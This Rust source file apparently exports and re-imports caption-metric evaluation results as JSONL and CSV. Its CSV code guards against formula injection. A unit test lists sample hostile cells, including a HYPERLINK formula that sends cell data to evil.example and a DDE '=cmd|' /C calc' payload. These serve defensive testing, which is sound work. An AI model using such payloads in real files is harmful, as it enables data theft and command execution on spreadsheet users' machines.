//! Results files: JSONL (one `ItemResult` per line, lossless, re-importable) and CSV (flat, for
//! spreadsheets; re-importable too). Both carry the overall score at the γ of the export for
//! convenience; re-import recomputes it from the stored criteria.

use std::fmt::Write;

use super::record::{CriterionRecord, ItemResult};
use crate::scoring::criteria::Criterion;

/// Results as JSONL. `overall` is added per line (at `gamma`; `null` for an item with none, and
/// for an incomplete one `incomplete` says why) and ignored on import.
pub fn to_jsonl(results: &[ItemResult], gamma: f64) -> String {
    results.iter().map(|r| jsonl_line(r, gamma)).collect()
}

/// One result's line of [`to_jsonl`], its newline included (for a writer that streams them).
pub fn jsonl_line(r: &ItemResult, gamma: f64) -> String {
    let mut v = serde_json::to_value(r).expect("plain data serialises");
    v["overall"] = serde_json::json!(r.overall(gamma));
    if let Some(why) = r.incomplete_sentence() {
        v["incomplete"] = serde_json::json!(why);
    }
    v["failed_criteria"] = serde_json::json!(r.failed_criteria());
    let mut line = v.to_string();
    line.push('\n');
    line
}

pub use super::ranges::range_problem;

/// Reads a results JSONL file: the results, and `line: reason` for each line that is not one.
pub fn from_jsonl(text: &str) -> (Vec<ItemResult>, Vec<String>) {
    let mut reader = super::jsonl_reader::JsonlReader::default();
    reader.read(text, usize::MAX);
    (reader.results, reader.problems)
}

/// A plain decimal number (`-2`, `0.5`, `1e-3`): a spreadsheet reads it as a number, never as
/// a formula, so it is written as it is.
fn plain_number(s: &str) -> bool {
    s.bytes()
        .all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
        && s.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Whether a spreadsheet opening the file would read the cell (after any leading `'`s, see
/// [`neutralised`]) as a formula: OWASP's CSV-injection list `=`, `+`, `-`, `@`, tab, CR, and
/// LF (the CSV reader turns a quoted CR into LF, so both are marked for the round trip).
fn needs_quote_mark(s: &str) -> bool {
    let rest = s.trim_start_matches('\'');
    rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !plain_number(rest)
}

/// The cell as written to a CSV export: a cell a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`, `@SUM(…)`, a caption starting with "- ") gets a leading `'`, as OWASP
/// advises, so it shows as the text it is. A cell that is already `'`s before such a start gets
/// one more, so that [`unneutralised`] gives back exactly what was exported.
pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote_mark(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// The cell as it was before [`neutralised`]: one leading `'` is dropped where it was added.
pub fn unneutralised(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote_mark(rest) => rest,
        _ => s,
    }
}

fn csv_field(s: &str) -> String {
    let s = neutralised(s);
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

fn num(v: Option<f64>) -> String {
    v.map(|x| x.to_string()).unwrap_or_default()
}

/// Column names of the CSV export, in order.
pub fn csv_header() -> Vec<String> {
    let mut h: Vec<String> = [
        "id", "metric", "task", "text", "image", "overall", "score", "error",
    ]
    .map(String::from)
    .to_vec();
    for c in Criterion::ALL {
        let id = c.id();
        h.push(format!("{id}_score"));
        h.push(format!("{id}_sigma"));
        for r in 1..=5 {
            h.push(format!("{id}_p{r}"));
        }
        h.push(format!("{id}_error"));
    }
    h.push("human_overall".into());
    for c in Criterion::ALL {
        h.push(format!("human_{}", c.id()));
    }
    h.push("group".into());
    h.push("chosen".into());
    h.push("failed_criteria".into());
    for c in Criterion::ALL {
        h.push(format!("{}_doubts", c.id()));
    }
    h.push("missing_answers".into());
    h
}

/// Results as CSV (RFC 4180), multi-ratings joined by `|`.
pub fn to_csv(results: &[ItemResult], gamma: f64) -> String {
    let mut out = csv_header().join(",");
    out.push_str("\r\n");
    for r in results {
        let mut row: Vec<String> = vec![
            csv_field(&r.id),
            csv_field(&r.metric),
            csv_field(&r.task),
            csv_field(&r.text),
            csv_field(r.image.as_deref().unwrap_or("")),
            num(r.overall(gamma)),
            num(r.score),
            csv_field(r.error.as_deref().unwrap_or("")),
        ];
        for c in Criterion::ALL {
            let rec = r.criteria.iter().find(|x| x.name == c.id());
            row.push(num(rec.and_then(|x| x.score)));
            row.push(num(rec.and_then(|x| x.sigma)));
            for k in 0..5 {
                row.push(num(rec.and_then(|x| x.distribution).map(|d| d[k])));
            }
            row.push(csv_field(
                rec.and_then(|x| x.error.as_deref()).unwrap_or(""),
            ));
        }
        let ratings = |key: &str| {
            r.human
                .get(key)
                .map(|v| {
                    v.iter()
                        .map(|x| x.to_string())
                        .collect::<Vec<_>>()
                        .join("|")
                })
                .unwrap_or_default()
        };
        row.push(csv_field(&ratings("overall")));
        for c in Criterion::ALL {
            row.push(csv_field(&ratings(c.id())));
        }
        row.push(csv_field(r.group.as_deref().unwrap_or("")));
        row.push(if r.chosen { "1".into() } else { String::new() });
        row.push(r.failed_criteria().to_string());
        for c in Criterion::ALL {
            let rec = r.criteria.iter().find(|x| x.name == c.id());
            row.push(rec.map(|x| x.doubts.join(" ")).unwrap_or_default());
        }
        row.push(csv_field(&r.missing_answers.join(" ")));
        let _ = write!(out, "{}\r\n", row.join(","));
    }
    out
}

/// Rebuilds results from CSV records (header first), as parsed by a CSV reader. Returns the
/// results and `row: reason` problems.
pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, Vec<String>) {
    let mut read = CsvResults::default();
    for (line, row) in records {
        read.push(*line, row);
    }
    read.finish()
}

/// [`from_csv_records`] one record at a time (the header first), for a caller that reads a
/// slice of records, shows how far it is and yields to the page between slices.
#[derive(Default)]
pub struct CsvResults {
    header: Option<Vec<String>>,
    /// The header has no `id` column: every later row is ignored.
    refused: bool,
    results: Vec<ItemResult>,
    problems: Vec<String>,
}

impl CsvResults {
    /// Reads the record that starts on `line`.
    pub fn push(&mut self, line: usize, row: &[String]) {
        if self.refused {
            return;
        }
        let Some(header) = &self.header else {
            if row.iter().any(|h| h.trim() == "id") {
                self.header = Some(row.to_vec());
            } else {
                self.refused = true;
                self.problems
                    .push("Line 1: no \u{201c}id\u{201d} column.".into());
            }
            return;
        };
        let mut cells = Cells {
            header,
            row,
            line,
            bad: None,
        };
        let r = cells.result();
        match cells.bad {
            Some(p) => self.problems.push(p),
            None if r.id.is_empty() => self
                .problems
                .push(format!("Line {line}: the result has no id.")),
            None => match range_problem(&r) {
                Some(why) => self.problems.push(format!("Line {line}: {why}.")),
                None => self.results.push(r),
            },
        }
    }

    /// The results read so far.
    pub fn found(&self) -> usize {
        self.results.len()
    }

    /// The results and the problems, in line order.
    pub fn finish(self) -> (Vec<ItemResult>, Vec<String>) {
        if self.header.is_none() && !self.refused {
            return (Vec::new(), vec!["The file is empty.".into()]);
        }
        (self.results, self.problems)
    }
}

/// One row of a results CSV, read by column name; `bad` keeps the first unreadable cell.
struct Cells<'a> {
    header: &'a [String],
    row: &'a [String],
    line: usize,
    bad: Option<String>,
}

impl<'a> Cells<'a> {
    fn get(&self, name: &str) -> Option<&'a str> {
        let row = self.row;
        self.header
            .iter()
            .position(|h| h.trim() == name)
            .and_then(|i| row.get(i))
            .map(|s| unneutralised(s.trim()))
            .filter(|s| !s.is_empty())
    }

    fn number(&mut self, name: &str) -> Option<f64> {
        let s = self.get(name)?;
        match s.parse::<f64>() {
            Ok(v) if v.is_finite() => Some(v),
            _ => {
                let line = self.line;
                self.bad.get_or_insert_with(|| {
                    format!("Line {line}: {name} is not a number (\u{201c}{s}\u{201d}).")
                });
                None
            }
        }
    }

    /// The row as a result (its `id` cell as written, even when empty).
    fn result(&mut self) -> ItemResult {
        let id = self.get("id").unwrap_or("").to_string();
        let mut r = ItemResult {
            id,
            metric: self.get("metric").unwrap_or("").to_string(),
            task: self.get("task").unwrap_or("").to_string(),
            text: self.get("text").unwrap_or("").to_string(),
            image: self.get("image").map(str::to_owned),
            score: self.number("score"),
            error: self.get("error").map(str::to_owned),
            group: self.get("group").map(str::to_owned),
            chosen: matches!(self.get("chosen"), Some("1" | "true" | "yes")),
            missing_answers: self
                .get("missing_answers")
                .map(|m| m.split_whitespace().map(str::to_owned).collect())
                .unwrap_or_default(),
            ..ItemResult::default()
        };
        for c in Criterion::ALL {
            if let Some(record) = self.criterion(c) {
                r.criteria.push(record);
            }
        }
        self.human(&mut r);
        r
    }

    /// A criterion's columns, when it has a score or an error.
    fn criterion(&mut self, c: Criterion) -> Option<CriterionRecord> {
        let id = c.id();
        let score = self.number(&format!("{id}_score"));
        let sigma = self.number(&format!("{id}_sigma"));
        let p: Vec<Option<f64>> = (1..=5)
            .map(|k| self.number(&format!("{id}_p{k}")))
            .collect();
        let distribution = if p.iter().all(Option::is_some) {
            Some(std::array::from_fn(|k| p[k].unwrap_or(0.0)))
        } else {
            None
        };
        let error = self.get(&format!("{id}_error")).map(str::to_owned);
        let doubts = self
            .get(&format!("{id}_doubts"))
            .map(|d| d.split_whitespace().map(str::to_owned).collect())
            .unwrap_or_default();
        (score.is_some() || error.is_some()).then(|| CriterionRecord {
            name: id.into(),
            score,
            sigma,
            distribution,
            error,
            doubts,
        })
    }

    /// `human_overall` and `human_<criterion>`: ratings separated by `|`.
    fn human(&mut self, r: &mut ItemResult) {
        for key in std::iter::once("overall").chain(Criterion::ALL.iter().map(|c| c.id())) {
            if let Some(s) = self.get(&format!("human_{key}")) {
                let parsed: Result<Vec<f64>, _> =
                    s.split('|').map(|x| x.trim().parse::<f64>()).collect();
                match parsed {
                    Ok(v) => {
                        r.human.insert(key.to_string(), v);
                    }
                    Err(_) => {
                        let line = self.line;
                        self.bad.get_or_insert_with(|| {
                            format!(
                                "Line {line}: human_{key} is not a number list \
                                 (\u{201c}{s}\u{201d})."
                            )
                        });
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Vec<ItemResult> {
        let mut a = ItemResult {
            id: "a,1".into(),
            metric: "harmonic_eval".into(),
            task: "ic".into(),
            text: "A \"dog\"\nruns.".into(),
            image: Some("img/a.png".into()),
            criteria: vec![
                CriterionRecord {
                    name: "correctness".into(),
                    score: Some(3.95),
                    sigma: Some(0.74),
                    distribution: Some([0.0, 0.05, 0.15, 0.6, 0.2]),
                    error: None,
                    doubts: vec!["truncated".into(), "echo".into()],
                },
                CriterionRecord {
                    name: "fluency".into(),
                    score: None,
                    sigma: None,
                    distribution: None,
                    error: Some("HTTP 500".into()),
                    doubts: Vec::new(),
                },
            ],
            ..ItemResult::default()
        };
        a.human.insert("overall".into(), vec![3.0, 4.0]);
        a.group = Some("g".into());
        a.chosen = true;
        let b = ItemResult {
            id: "b".into(),
            metric: "fleur".into(),
            score: Some(0.81),
            ..ItemResult::default()
        };
        vec![a, b]
    }

    #[test]
    fn jsonl_round_trips_and_reports_bad_lines() {
        let text = to_jsonl(&sample(), 0.75);
        let (back, problems) = from_jsonl(&format!("{text}\nnot json\n{{\"metric\":\"x\"}}\n"));
        assert_eq!(back, sample());
        assert_eq!(problems.len(), 2);
        assert!(problems[0].starts_with("Line 4:"), "{problems:?}");
    }

    #[test]
    fn csv_quotes_and_round_trips_through_records() {
        let csv = to_csv(&sample(), 0.75);
        assert!(csv.contains("\"a,1\""));
        assert!(csv.contains("\"A \"\"dog\"\"\nruns.\""));
        // A minimal reader for the test: split our own output (no quotes except row 1).
        let header = csv_header();
        let a = &sample()[0];
        let mut row = vec![String::new(); header.len()];
        let set = |row: &mut Vec<String>, k: &str, v: &str| {
            let i = header.iter().position(|h| h == k).unwrap();
            row[i] = v.into();
        };
        set(&mut row, "id", &a.id);
        set(&mut row, "metric", &a.metric);
        set(&mut row, "correctness_score", "3.95");
        set(&mut row, "correctness_sigma", "0.74");
        for (k, p) in [0.0, 0.05, 0.15, 0.6, 0.2].iter().enumerate() {
            set(&mut row, &format!("correctness_p{}", k + 1), &p.to_string());
        }
        set(&mut row, "human_overall", "3|4");
        set(&mut row, "chosen", "1");
        set(&mut row, "correctness_doubts", "truncated echo");
        assert!(
            csv.contains(",truncated echo,"),
            "the doubts column is written"
        );
        let (back, problems) = from_csv_records(&[(1, header.clone()), (2, row.clone())]);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(back[0].criteria[0], a.criteria[0]);
        assert_eq!(back[0].human["overall"], vec![3.0, 4.0]);
        assert!(back[0].chosen);
        set(&mut row, "correctness_score", "high");
        let (_, problems) = from_csv_records(&[(1, header), (7, row)]);
        assert!(
            problems[0].starts_with("Line 7: correctness_score"),
            "{problems:?}"
        );
    }

    #[test]
    fn an_incomplete_item_is_written_with_no_overall_and_why_and_read_back_so() {
        let mut a = sample().remove(0);
        assert!(a.overall(0.75).is_some(), "scored on its one criterion");
        a.missing_answers = vec!["fluency".into()];
        let line: serde_json::Value =
            serde_json::from_str(to_jsonl(&[a.clone()], 0.75).trim()).expect("one JSON line");
        assert_eq!(line["overall"], serde_json::Value::Null);
        assert_eq!(line["missing_answers"], serde_json::json!(["fluency"]));
        let why = line["incomplete"].as_str().unwrap();
        assert!(
            why.contains("no answer to its planned request for fluency"),
            "{why}"
        );
        let (back, _) = from_jsonl(&to_jsonl(&[a.clone()], 0.75));
        assert_eq!(back, [a.clone()]);
        assert_eq!(back[0].overall(0.75), None);
        // CSV: the overall cell empty, the mark in its own column, read back.
        let csv = to_csv(&[a.clone()], 0.75);
        let records = crate::batch::dataset::csv_records(&csv);
        let header = &records[0].1;
        let overall = header.iter().position(|h| h == "overall").unwrap();
        assert_eq!(records[1].1[overall], "");
        let (back, problems) = from_csv_records(&records);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(back[0].missing_answers, ["fluency"]);
        assert_eq!(back[0].overall(0.75), None);
        // A complete item's line has no such key.
        a.missing_answers.clear();
        assert!(!to_jsonl(&[a], 0.75).contains("incomplete"));
    }

    #[test]
    fn csv_cells_that_would_be_formulas_are_neutralised_and_round_trip() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "@SUM(1+1)",
            "+1+2",
            "- a caption that starts with a dash",
            "-1+2",
            "\t=1+1",
            "\r=1+1",
            "'=already quoted",
            "''@twice",
            "'plain apostrophe",
            "-2",
            "3.5e-1",
        ];
        let mut results = Vec::new();
        for (i, t) in hostile.iter().enumerate() {
            let mut r = ItemResult {
                id: if i == 1 {
                    "@SUM(1+1)".into()
                } else {
                    format!("id{i}")
                },
                metric: "harmonic_eval".into(),
                text: (*t).into(),
                error: Some(format!("=cmd|' /C calc'!A{i}")),
                group: Some("+g".into()),
                ..ItemResult::default()
            };
            r.human.insert("overall".into(), vec![-1.0, 2.0]);
            results.push(r);
        }
        let csv = to_csv(&results, 0.75);
        let records = crate::batch::dataset::csv_records(&csv);
        assert_eq!(records.len(), hostile.len() + 1);
        for (_, row) in &records {
            for cell in row {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !formula || plain_number(cell),
                    "{cell:?} would run as a formula"
                );
            }
        }
        // Numbers stay numbers; a dash caption and a formula get the mark.
        let text_col = csv_header().iter().position(|h| h == "text").unwrap();
        assert_eq!(records[11].1[text_col], "-2");
        assert_eq!(
            records[4].1[text_col],
            "'- a caption that starts with a dash"
        );
        assert_eq!(records[8].1[text_col], "''=already quoted");
        assert_eq!(records[10].1[text_col], "'plain apostrophe");
        // Re-import gives back exactly what was exported.
        let (back, problems) = from_csv_records(&records);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(back.len(), results.len());
        for (b, r) in back.iter().zip(&results) {
            // The reader has always read a quoted CR as a line break.
            assert_eq!(b.text, r.text.replace('\r', "\n"));
            assert_eq!(b.id, r.id);
            assert_eq!(b.error, r.error);
            assert_eq!(b.group.as_deref(), Some("+g"));
            assert_eq!(b.human["overall"], vec![-1.0, 2.0]);
        }
    }

    #[test]
    fn a_csv_read_a_record_at_a_time_gives_what_the_whole_read_gives_and_its_share_moves() {
        let results: Vec<ItemResult> = (0..40)
            .map(|i| ItemResult {
                id: format!("r{i}"),
                metric: "fleur".into(),
                text: format!("line one\nline two, \"quoted\" {i}"),
                score: Some(f64::from(i) / 40.0),
                ..ItemResult::default()
            })
            .collect();
        let mut csv = to_csv(&results, 0.75);
        csv.push_str(",fleur,ic\r\n");
        let whole = from_csv_records(&crate::batch::dataset::csv_records(&csv));
        assert_eq!((whole.0.len(), whole.1.len()), (40, 1), "{:?}", whole.1);
        let mut records = crate::batch::dataset::CsvRecords::new(&csv);
        let mut read = CsvResults::default();
        let mut shares = vec![records.share()];
        while let Some((line, row)) = records.next() {
            read.push(line, &row);
            shares.push(records.share());
        }
        assert_eq!(read.found(), 40);
        assert_eq!(shares.first(), Some(&0.0));
        assert_eq!(shares.last(), Some(&1.0));
        assert!(shares.windows(2).all(|w| w[0] < w[1]), "{shares:?}");
        assert_eq!(read.finish(), whole);
        // No id column, or nothing at all: one sentence, as from the whole read.
        let mut none = CsvResults::default();
        none.push(1, &["text".to_string()]);
        none.push(2, &["a".to_string()]);
        assert_eq!(
            none.finish(),
            (
                Vec::new(),
                vec!["Line 1: no \u{201c}id\u{201d} column.".to_string()]
            )
        );
        assert_eq!(CsvResults::default().finish().1, ["The file is empty."]);
    }

    #[test]
    fn out_of_range_scores_and_non_finite_human_ratings_are_refused_by_line() {
        let he = |score: &str, human: &str| {
            format!(
                r#"{{"id":"a","metric":"harmonic_eval","criteria":[{{"name":"correctness","score":{score}}}],"human":{{"overall":[{human}]}}}}"#
            )
        };
        let single = |metric: &str, score: &str| {
            format!(r#"{{"id":"b","metric":"{metric}","score":{score}}}"#)
        };
        let text = [
            he("4.2", "3"),
            he("99", "3"),
            he("1e308", "3"),
            he("0.5", "3"),
            single("fleur", "0.8"),
            single("fleur", "1.5"),
            single("g_veval", "87"),
            single("g_veval", "-1"),
            single("maev", "2"),
            single("maev", "2.5"),
            single("someone_elses", "1e300"),
        ]
        .join("\n");
        let (ok, problems) = from_jsonl(&text);
        assert_eq!(ok.len(), 5, "{problems:?}");
        let lines: Vec<&str> = problems.iter().map(|p| &p[..7]).collect();
        assert_eq!(
            lines,
            ["Line 2:", "Line 3:", "Line 4:", "Line 6:", "Line 8:", "Line 10"]
        );
        assert!(
            problems[0].contains("correctness score is 99, outside 1\u{2013}5"),
            "{problems:?}"
        );
        assert!(problems[3].contains("outside 0\u{2013}1"), "{problems:?}");
        // CSV: a NaN or infinite human rating is refused, as are out-of-range scores.
        let header: Vec<String> = ["id", "metric", "correctness_score", "human_overall"]
            .map(String::from)
            .to_vec();
        let row = |id: &str, s: &str, h: &str| {
            (2, [id, "harmonic_eval", s, h].map(String::from).to_vec())
        };
        let (ok, problems) = from_csv_records(&[
            (1, header),
            row("a", "4", "3|4"),
            row("b", "4", "NaN"),
            row("c", "4", "3|inf"),
            row("d", "23", "3"),
        ]);
        assert_eq!(ok.len(), 1);
        assert_eq!(problems.len(), 3, "{problems:?}");
        assert!(
            problems[0].contains("human rating overall is NaN"),
            "{problems:?}"
        );
        assert!(problems[2].contains("outside 1\u{2013}5"), "{problems:?}");
    }
}
